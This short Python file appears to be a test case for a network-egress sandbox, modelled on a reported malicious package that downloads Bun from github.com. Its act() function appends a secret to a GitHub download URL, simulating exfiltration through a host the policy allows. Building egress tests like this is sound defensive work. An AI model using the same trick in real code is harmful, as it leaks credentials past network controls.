# act: downloads Bun from github.com
# source: ossf/malicious-packages#1299
# when: path_file
# rule: outbound_connectivity
# asks: connect github.com:443
# says: github.com
# proof: arrived
# to: github.com
# realistic: the policy allows github.com to the whole process
from . import incident


def act():
    url = "https://github.com/oven-sh/bun/releases/latest/download/bun-linux-x64.zip"
    incident.https(f"{url}?{incident.SECRET}")
